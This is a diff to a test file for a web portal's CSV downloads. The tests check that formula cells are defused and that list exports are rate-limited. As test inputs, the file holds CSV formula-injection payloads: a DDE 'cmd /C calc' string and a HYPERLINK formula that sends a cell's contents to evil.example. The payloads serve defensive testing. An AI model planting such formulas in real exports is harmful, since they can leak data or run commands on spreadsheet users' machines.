@@ -1,15 +1,18 @@
-import { http, HttpResponse } from "msw";
 import { afterEach, describe, expect, it } from "vitest";
 import { useInProcessUpstream } from "../../mocks/handlers/test-setup";
 import { server } from "../../mocks/node";
 import { db } from "../../mocks/store";
 import { cookieFor, settle } from "../../tests/unit/route-helpers";
 import { createRequestContext } from "~/context";
+import { env, setEnvForTests } from "~/env.server";
+import { resetRateLimits } from "~/security/rate-limit.server";
 import { action as reportAction } from "./admin.reports.$report";
 import { loader as ordersCsvLoader } from "./orders.csv";
+import { loader as ordersExportLoader } from "./exports.spares-and-services.$format";
+import { parse as parseCsv } from "csv-parse/sync";
 
 /**
- * The CSV files the portal serves (orders list, admin reports) against the in-process embedded
+ * The CSV files the portal serves (the orders list's download, admin reports) against the in-process embedded
  * upstream: whatever the upstream sends, no cell can start a formula (docs/decisions/015).
  */
 useInProcessUpstream();
@@ -34,33 +37,21 @@ async function report(id: string) {
 }
 
 describe("orders CSV", () => {
-  it("defuses formula cells an upstream left as they were", async () => {
-    server.use(
-      http.get("*/api/orderapi/orders/csv", () =>
-        new HttpResponse(
-          `Order Number,P.O. Number,Asset Name\r\nSO-1,"${HOSTILE.replace(/"/g, '""')}",@SUM(A1:A2)\r\nSO-2,-5,+cmd|' /C calc'!A0\r\n`,
-          { headers: { "content-type": "text/csv; charset=utf-8" } },
-        ),
-      ),
-    );
-    const out = await ordersCsv();
-    expect(out.status).toBe(200);
-    expect(out.response!.headers.get("content-type")).toBe("text/csv; charset=utf-8");
-    expect(out.response!.headers.get("content-disposition")).toMatch(/^attachment; filename="spares-and-services-history-\d{4}-\d{2}-\d{2}\.csv"$/);
-    expect((await out.response!.text()).split("\r\n")).toEqual([
-      "Order Number,P.O. Number,Asset Name",
-      `SO-1,"'${HOSTILE.replace(/"/g, '""')}",'@SUM(A1:A2)`,
-      "SO-2,-5,'+cmd|' /C calc'!A0",
-      "",
-    ]);
+  it("the old address leads to the list's download, query and all", async () => {
+    const out = await ordersCsv("view=history&product=Water");
+    expect(out.status).toBe(301);
+    expect(out.response!.headers.get("location")).toBe("/exports/spares-and-services/csv?view=history&product=Water");
   });
 
-  it("leaves what the embedded upstream already defused as it was (no second quote)", async () => {
-    for (const order of db.orders) order.customerPo = "=1+1";
-    const text = await (await ordersCsv("view=history")).response!.text();
-    const rows = text.trim().split("\r\n").slice(1);
-    expect(rows.length).toBeGreaterThan(0);
-    for (const row of rows) expect(row.split(",")[1]).toBe("'=1+1");
+  it("defuses formula cells in the list's download (docs/decisions/015, 102)", async () => {
+    for (const order of db.orders) order.customerPo = HOSTILE;
+    const request = new Request(`${ORIGIN}/exports/spares-and-services/csv?view=history`, { headers: { cookie: await cookieFor("customer@demo.test") } });
+    const out = await settle(() => ordersExportLoader({ request, context: context(), params: { format: "csv" } }));
+    expect(out.status).toBe(200);
+    const records: string[][] = parseCsv((await out.response!.text()).replace(/^\uFEFF/, ""));
+    const po = records[0].indexOf("P.O. number");
+    expect(records.length).toBeGreaterThan(1);
+    for (const record of records.slice(1)) expect(record[po]).toBe(`'${HOSTILE}`);
   });
 });
 
@@ -75,5 +66,29 @@ describe("admin report CSV", () => {
     expect(lines[0]).toBe("template,subject,lastSentAt");
     expect(lines[1]).toMatch(new RegExp(`^Welcome,"'=HYPERLINK\\(""https://evil\\.example/\\?""&A1,""Open""\\)",`));
     expect(lines[2]).toMatch(/^'-2\+3,Your ticket has been updated,/);
+  });
+});
+
+describe("list downloads' limit", () => {
+  afterEach(() => {
+    setEnvForTests(undefined);
+    resetRateLimits();
+  });
+
+  it("past LIST_EXPORTS_PER_USER a user gets 429 with Retry-After; an unknown format is a 404 and not counted", async () => {
+    resetRateLimits();
+    setEnvForTests({ ...env(), LIST_EXPORTS_PER_USER: 1 });
+    const get = async (format: string) => {
+      const request = new Request(`${ORIGIN}/exports/spares-and-services/${format}`, { headers: { cookie: await cookieFor("customer@demo.test") } });
+      return settle(() => ordersExportLoader({ request, context: context(), params: { format } }));
+    };
+    expect((await get("pdf")).status).toBe(404);
+    const first = await get("xlsx");
+    expect(first.status).toBe(200);
+    await first.response!.arrayBuffer();
+    const refused = await get("csv");
+    expect(refused.status).toBe(429);
+    expect(Number(refused.response!.headers.get("retry-after"))).toBeGreaterThan(0);
+    expect(await refused.response!.text()).toContain("You have downloaded many lists in a short time.");
   });
 });
